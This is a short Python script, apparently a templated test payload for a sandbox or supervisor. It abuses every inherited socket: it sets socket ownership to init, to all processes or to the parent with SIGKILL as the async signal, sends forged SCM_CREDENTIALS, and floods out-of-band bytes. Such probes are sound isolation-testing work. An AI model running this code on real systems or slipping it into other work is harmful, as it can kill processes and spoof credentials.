# how: urgent bytes, credentials, owners and signals on every inherited socket
import contextlib
import fcntl
import os
import signal
import socket
import stat

print("CANARY @NAME@", flush=True)
for number in range(3, 256):
    with contextlib.suppress(OSError):
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            continue
        end = socket.socket(fileno=os.dup(number))
        for process in (1, -1, os.getppid(), 2**22):
            with contextlib.suppress(OSError):
                fcntl.fcntl(number, fcntl.F_SETOWN, process)
                fcntl.fcntl(number, fcntl.F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(number, fcntl.F_SETFL, os.O_ASYNC | fcntl.fcntl(number, fcntl.F_GETFL))
        end.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        with contextlib.suppress(OSError):
            end.sendmsg([b""], [(socket.SOL_SOCKET, 2, b"\1\0\0\0" * 3)])
        for _ in range(5):
            end.send(b"@", socket.MSG_OOB)
